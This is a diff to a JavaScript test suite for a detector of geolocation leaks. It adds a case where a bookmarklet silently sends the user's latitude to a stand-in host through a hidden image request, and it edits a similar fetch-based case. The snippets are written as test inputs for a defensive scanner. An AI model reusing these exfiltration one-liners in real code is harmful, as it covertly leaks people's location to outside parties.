@@ -13,9 +13,14 @@ describe("geolocation-leak", () => {
 			),
 		],
 		[
+			"a bookmarklet that tells the place to a picture nobody sees",
+			["high 1"],
+			`navigator.geolocation.getCurrentPosition(p=>{new Image().src="https://w.stranger.test/?"+p.coords.latitude})`,
+		],
+		[
 			"a bookmarklet that asks about the place: look at it",
 			["medium 1"],
-			`navigator.geolocation.getCurrentPosition(p=>fetch("https://w.stranger.test/?"+p.coords.latitude).then(show));function show(){}`,
+			`navigator.geolocation.getCurrentPosition(p=>fetch("https://w.stranger.test/?"+p.coords.latitude).then(show));function show(r){r.json().then(alert)}`,
 		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(geolocationLeak, code)).toEqual(expected);
